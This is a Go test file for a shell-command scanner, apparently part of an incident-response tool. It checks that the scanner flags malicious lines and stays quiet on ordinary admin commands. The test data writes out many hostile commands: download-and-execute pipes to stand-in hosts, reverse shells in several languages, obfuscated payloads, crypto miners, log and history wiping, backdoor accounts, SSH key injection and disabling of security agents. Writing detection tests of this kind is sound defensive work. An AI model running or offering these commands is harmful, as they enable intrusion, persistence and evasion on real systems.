package cmdscan

import (
	"slices"
	"strings"
	"testing"

	"github.com/vigil-ir/vigil/internal/catalog"
)

var firesTable = []struct {
	line string
	want string
}{
	{`* * * * * root curl -fsSL http://203.0.113.7/x.sh | bash`, "download-exec"},
	{`wget -q -O- http://evil.example/a | sh`, "download-exec"},
	{`bash -c "$(curl -fsSL http://x.example/i.sh)"`, "download-exec"},
	{`curl -s http://x/p.py | python3`, "download-exec"},
	{`wget http://x/k -O /tmp/k && chmod +x /tmp/k && /tmp/k`, "download-chmod-exec"},
	{`curl -o /dev/shm/.x http://x/bin`, "download-to-writable"},
	{`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`, "reverse-shell.dev-tcp"},
	{`nc -e /bin/sh 10.0.0.1 4444`, "reverse-shell.nc"},
	{`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f`, "reverse-shell.nc"},
	{`socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444`, "reverse-shell.socat"},
	{`python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));os.dup2(s.fileno(),0)'`, "reverse-shell.script"},
	{`perl -e 'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");'`, "reverse-shell.script"},
	{`php -r '$sock=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`, "reverse-shell.script"},
	{`echo Y3VybCBodHRwOi8veC9hIHwgYmFzaA== | base64 -d | bash`, "obfuscation.base64-exec"},
	{`eval "$(echo aGVsbG8= | base64 --decode)"`, "obfuscation.base64-exec"},
	{`echo 6375726c20687474703a2f2f78 | xxd -r -p | sh`, "obfuscation.hex-exec"},
	{`echo 'hsab | a/x//:ptth lruc' | rev | sh`, "obfuscation.rev-exec"},
	{`/tmp/.ICE-unix/.x/kworker`, "exec-writable-path"},
	{`nohup /dev/shm/sshd -D &`, "exec-writable-path"},
	{`/root/.cache/.sys/update`, "exec-hidden-path"},
	{`./xmrig -o pool.supportxmr.com:3333 -u 4A...`, "miner"},
	{`/opt/x/a -o stratum+tcp://198.51.100.2:14444`, "miner"},
	{`history -c`, "anti-forensics.history"},
	{`unset HISTFILE; export HISTSIZE=0`, "anti-forensics.history"},
	{`ln -sf /dev/null ~/.bash_history`, "anti-forensics.history"},
	{`echo > /var/log/wtmp`, "anti-forensics.logs"},
	{`rm -f /var/log/auth.log`, "anti-forensics.logs"},
	{`useradd -o -u 0 -g 0 -M -s /bin/bash sysadm`, "account-change"},
	{`echo 'hack::0:0::/root:/bin/bash' >> /etc/passwd`, "account-change"},
	{`echo ssh-rsa AAAAB3Nz... >> /root/.ssh/authorized_keys`, "ssh-key-inject"},
	{`eval "$(echo Y3VybA== | base64 -d)"`, "obfuscation.base64-exec"},
	{`eval "$(curl -s http://x/a)"`, "obfuscation.eval"},
	{`chattr +i /etc/cron.d/sys`, "immutable-attr"},
	{`chmod u+s /tmp/bash`, "setuid-set"},
	{`echo /usr/lib/libsys.so > /etc/ld.so.preload`, "ld-preload"},
	{`systemctl stop aegis; setenforce 0`, "defense-evasion"},
	{`rm -rf /usr/local/aegis`, "defense-evasion"},
	{`chattr -i /usr/local/qcloud/YunJing && rm -rf /usr/local/qcloud`, "defense-evasion"},
	{`ufw disable`, "defense-evasion"},
	{`iptables -F`, "defense-evasion"},
	{`wget http://update.aegis.aliyun.com/download/uninstall.sh && sh uninstall.sh aegis`, "defense-evasion"},
	{`sh /usr/local/qcloud/stargate/admin/uninstall.sh`, "defense-evasion"},
	{`curl -s http://x/a | perl`, "download-exec"},
	{`python -c 'import urllib.request as u;exec(u.urlopen("http://x/a").read())'`, "download-python"},
	{`ncat 10.0.0.1 4444 | /bin/bash`, "reverse-shell.nc"},
	{`socat tcp-connect:10.0.0.1:4444 exec:sh,pty,stderr,setsid`, "reverse-shell.socat"},
	{`socat file:$(tty),raw,echo=0 tcp4-connect:10.0.0.1:4444,pty`, "reverse-shell.socat"},
	{`ruby -rsocket -e 'c=TCPSocket.new("10.0.0.1","4444")'`, "reverse-shell.script"},
	{`node -e 'require("child_process").exec("sh")'`, "reverse-shell.script"},
	{`sh -i >& /dev/udp/10.0.0.1/53 0>&1`, "reverse-shell.script"},
	{`python3 -c "import base64;c=base64.b64decode('cHJpbnQoMSk=');exec(c)"`, "obfuscation.base64-exec"},
	{`echo QUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFBQUFB | base64 -d > /x`, "obfuscation.base64-blob"},
	{`printf '\x63\x75\x72\x6c\x20\x68\x74\x74\x70\x3a\x2f\x2f\x78' | sh`, "obfuscation.hex-exec"},
	{`/tmp/x --donate-level 1`, "miner"},
	{`/opt/k -o gulf.moneroocean.stream:10128`, "miner"},
	{`rm -f ~/.bash_history`, "anti-forensics.history"},
	{`utmpdump /var/log/wtmp > /tmp/w`, "anti-forensics.logs"},
	{`touch -r /bin/ls /usr/bin/.x`, "anti-forensics.timestomp"},
	{`echo 'x ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/sudoers`, "account-change"},
	{`LD_PRELOAD=/tmp/x.so /bin/ls`, "ld-preload"},
}

func TestScanFires(t *testing.T) {
	for _, tc := range firesTable {
		got := Scan(tc.line)
		if !slices.Contains(IDs(got), tc.want) {
			t.Errorf("Scan(%q) = %v, want %s among them", tc.line, IDs(got), tc.want)
		}
	}
}

// Lines from real servers: packaged cron jobs, admin habits, histories.
var silentTable = []string{
	"/usr/local/aegis/aegis_client/aegis_11_91/AliYunDun", // the Aliyun agent running from its own place
	`17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly`,
	`25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }`,
	`09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi`,
	`30 3 * * * root find /tmp -type f -atime +10 -delete`,
	`0 2 * * * backup /usr/local/bin/backup.sh > /var/log/backup.log 2>&1`,
	`wget https://github.com/prometheus/node_exporter/releases/download/v1.8.2/node_exporter-1.8.2.linux-amd64.tar.gz`,
	`curl -LO https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl`,
	`tar xzf node_exporter-1.8.2.linux-amd64.tar.gz -C /opt`,
	`sudo apt-get update && sudo apt-get upgrade -y`,
	`ls -la /tmp`,
	`cd /tmp && tar xzf foo.tar.gz`,
	`systemctl restart nginx`,
	`ExecStart=/usr/sbin/sshd -D $SSHD_OPTS`,
	`ExecReload=/bin/kill -HUP $MAINPID`,
	`postrotate invoke-rc.d rsyslog rotate > /dev/null endscript`,
	`export PATH=$HOME/.local/bin:$PATH`,
	`. "$HOME/.cargo/env"`,
	`git clone https://github.com/example/app.git && cd app && make`,
	`mysql -u root -p`,
	`vim /etc/nginx/sites-available/default`,
	`tail -f /var/log/syslog`,
	`journalctl -u nginx --since today`,
	`if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi`,
	`[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"`,
	`test -x /usr/bin/dircolors && eval "$(dircolors -b)"`,
	`docker run --rm -v /tmp:/tmp alpine ls`,
	`eval "$(ssh-agent -s)"`,
	`eval "$(pyenv init -)"`,
	`run-parts /etc/cron.daily`,
	`/usr/lib/php/sessionclean`,
	`rm -rf /tmp/build-cache`,
}

func TestScanSilentOnOrdinaryLines(t *testing.T) {
	for _, l := range append(silentTable, ordinaryLines...) {
		for _, m := range Scan(l) {
			if m.Severity >= 2 { // medium or above on an ordinary line is a false positive
				t.Errorf("Scan(%q) matched %s (%s) on %q", l, m.ID, m.Severity, m.Fragment)
			}
		}
	}
}

func TestIndicatorsInCatalog(t *testing.T) {
	cat := catalog.MustLoad()
	for _, id := range Indicators() {
		for _, lang := range catalog.Languages {
			if got := cat.Indicator(id, lang); got == id || strings.TrimSpace(got) == "" {
				t.Errorf("indicator %s has no %s text in rules/indicators.yaml", id, lang)
			}
		}
	}
}

func TestScanOrdersBySeverity(t *testing.T) {
	got := Scan(`curl http://x/a | sh; history -c`)
	if len(got) < 2 || got[0].ID != "download-exec" {
		t.Fatalf("got %v, want download-exec first", IDs(got))
	}
}

func FuzzScan(f *testing.F) {
	f.Add(`curl http://x | sh`)
	f.Add(`bash -i >& /dev/tcp/1.2.3.4/4444 0>&1`)
	f.Add(strings.Repeat("\\x41", 1000) + " | sh")
	f.Fuzz(func(t *testing.T, s string) {
		for _, m := range Scan(s) {
			if m.ID == "" || len(m.Fragment) > 160 {
				t.Fatalf("bad match %+v", m)
			}
		}
	})
}

func BenchmarkScan(b *testing.B) {
	line := `17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly`
	for b.Loop() {
		Scan(line)
	}
}
